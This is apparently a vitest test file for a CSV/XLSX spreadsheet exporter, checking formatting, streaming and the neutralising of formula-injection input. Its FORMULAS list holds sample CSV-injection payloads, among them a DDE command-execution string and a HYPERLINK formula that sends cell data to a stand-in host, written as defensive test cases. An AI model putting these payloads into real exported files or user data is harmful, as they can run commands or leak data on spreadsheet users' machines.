import { buffer } from 'node:stream/consumers';
import { parseCsv } from 'hucre/csv';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, test } from 'vitest';
import { unzip } from '#test/unzip.ts';
import { type Column, day, money, number, text, writeSheet } from './write.ts';

type Row = { name: string | null; size: number | null; price: number | null; since: '2026-11-20' | null };

const COLUMNS: Column<Row>[] = [
  text('Nome', 20, (row) => row.name),
  number('Área', 8, (row) => row.size),
  money('Preço', 12, (row) => row.price),
  day('Desde', 12, (row) => row.since),
];

async function* each(rows: Row[]) {
  yield* rows;
}

const written = (format: 'xlsx' | 'csv', rows: Row[]) =>
  buffer(writeSheet(format, { name: 'Lista', columns: COLUMNS, rows: each(rows) }));
const named = (name: string | null): Row => ({ name, size: null, price: null, since: null });

const REAL: Row = { name: 'Ana; a "Rainha"', size: 72.5, price: 123_456_789, since: '2026-11-20' };

/** Texts that a spreadsheet program would compute, run or send, and near misses. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://mau.exemplo/?"&A1;"ver")',
  '+55 32 98841-2076',
  '-2+3+cmd|calc!A0',
  '@SUM(A1:A9)',
  ' =1+1',
  '   @SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\tAna',
  '\rAna',
];
const HARMLESS = [
  "d'Ávila",
  "'=1+1",
  '1=1',
  'a@b.com',
  'Rua A; 12',
  'diz "sim"',
  'duas\nlinhas',
  '<f>1</f>',
  '&lt;',
  '0012',
  'Ñ 漢字 😀',
];

describe('CSV', () => {
  test('is readable by Excel in Brazil', async () => {
    const bytes = await written('csv', [REAL, named(null)]);
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bytes.toString()).toBe(
      '\ufeffNome;Área;Preço;Desde\r\n"Ana; a ""Rainha""";72,5;1234567,89;20/11/2026\r\n;;;',
    );
  });

  test.each(FORMULAS)('neutralises %j', async (name) => {
    const bytes = await written('csv', [named(name)]);
    const cell = String(parseCsv(bytes.toString(), { delimiter: ';' })[1]?.[0]);
    expect(cell[0]).toBe("'");
    // Only apostrophes were added.
    expect(cell.replaceAll("'", '')).toBe(name.replaceAll("'", ''));
    expect(bytes.toString()).toContain(`\n"'`);
  });

  // biome-ignore format: a table of cases reads best aligned
  test.each([
    ['Ana,Rui',            '"Ana,Rui"'],
    ['Ana|Rui',            '"Ana|Rui"'],
    ['Ana\tRui',           '"Ana\tRui"'],
    ['diz "sim"',          '"diz ""sim"""'],
    ["d'Ávila",            "d'Ávila"],
    ['Rua A, =1+1',        `"Rua A,' =1+1"`],
    ['Rua A;=1+1',         `"Rua A;'=1+1"`],
    ['Rua A\t=1+1',        `"Rua A\t'=1+1"`],
    ['Rua A\n=1+1',        `"Rua A\n'=1+1"`],
    ['Rua A,"=1+1',        `"Rua A,'""=1+1"`],
    ['a,\u200b@SUM(1),+2', `"a,'\u200b@SUM(1),'+2"`],
    ['\t=1+1',             `"'\t'=1+1"`],
  ])('writes %j as %j', async (name, cell) => {
    const bytes = await written('csv', [named(name)]);
    expect(bytes.toString().split('\r\n')[1]).toBe(`${cell};;;`);
  });

  test('neutralises headers too', async () => {
    const columns = [text('=1+1', 8, () => 'a'), text('a,b', 8, () => 'b')];
    const bytes = await buffer(writeSheet('csv', { name: 'Lista', columns, rows: each([]) }));
    expect(bytes.toString()).toBe(`\ufeff"'=1+1";"a,b"`);
  });

  /** Cells as lenient programs split them: quotes count only at the start of a cell, and text may follow their end. */
  function cut(sheet: string, separators: string): string[] {
    const pattern = new RegExp(`(?:^|[${separators}\\r\\n])(?:"((?:[^"]|"")*)")?([^${separators}\\r\\n]*)`, 'gy');
    return [...sheet.matchAll(pattern)].map(([, inQuotes = '', plain]) => inQuotes.replaceAll('""', '"') + plain);
  }

  test.each([';', ',', '\t', '|', ';,\t'])(
    'contains no formula for a program that splits at %j',
    async (separators) => {
      const joined = FORMULAS.flatMap((formula) => [...';,\t\r\n|'].map((mark) => `Ana${mark}${formula}`));
      const names = [...FORMULAS, ...joined, ...joined.map((name) => `"${name}"`)];
      const columns = [text<string>('Nome', 8, () => 'Ana'), text<string>('Nota', 8, (name) => name)];
      async function* rows() {
        yield* names;
      }
      const sheet = (await buffer(writeSheet('csv', { name: 'Lista', columns, rows: rows() }))).toString().slice(1);
      const cells = cut(sheet, separators);
      expect(cells.length).toBeGreaterThan(names.length);
      expect(cells.filter((cell) => /^[\s\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    },
  );

  test.each(HARMLESS)('leaves %j unchanged', async (name) => {
    const bytes = await written('csv', [named(name)]);
    expect(parseCsv(bytes.toString(), { delimiter: ';' })[1]?.[0]).toBe(name);
  });
});

describe('XLSX', () => {
  test('has numeric amounts and real dates', async () => {
    const bytes = await written('xlsx', [REAL, named(null)]);
    const [sheet] = (await readXlsx(bytes)).sheets;
    expect(sheet?.name).toBe('Lista');
    expect(sheet?.rows[0]).toEqual(['Nome', 'Área', 'Preço', 'Desde']);
    expect(sheet?.rows[1]).toEqual(['Ana; a "Rainha"', 72.5, 1_234_567.89, new Date('2026-11-20T00:00:00Z')]);
    const files = await unzip(bytes);
    expect(files.get('xl/styles.xml')).toContain('formatCode="&quot;R$&quot; #,##0.00"');
    expect(files.get('xl/styles.xml')).toContain('formatCode="dd/mm/yyyy"');
  });

  test('has every text as text, and no formula', async () => {
    const names = [...FORMULAS, ...HARMLESS];
    const bytes = await written('xlsx', names.map(named));
    const [sheet] = (await readXlsx(bytes)).sheets;
    expect(sheet?.rows.slice(1).map(([name]) => name)).toEqual(names);

    const files = await unzip(bytes);
    const xml = files.get('xl/worksheets/sheet1.xml') ?? '';
    expect(xml.match(/<c r="A\d+"/g)).toHaveLength(names.length + 1);
    expect(xml.match(/<c r="A\d+" t="inlineStr"/g)).toHaveLength(names.length + 1);
    for (const part of files.values()) expect(part).not.toMatch(/<f[\s>/]|<definedName|<externalLink|<hyperlink/);
  });
});

test.each(['csv', 'xlsx'] as const)('%s reads rows on demand, and stops when its reader does', async (format) => {
  let made = 0;
  let closed = false;
  async function* endless() {
    try {
      for (;;) yield { ...REAL, size: ++made };
    } finally {
      closed = true;
    }
  }
  const stream = writeSheet(format, { name: 'Lista', columns: COLUMNS, rows: endless() });
  for await (const _ of stream) break;
  expect(made).toBeLessThan(200_000);
  expect(stream.destroyed).toBe(true);
  await expect.poll(() => closed).toBe(true);
});
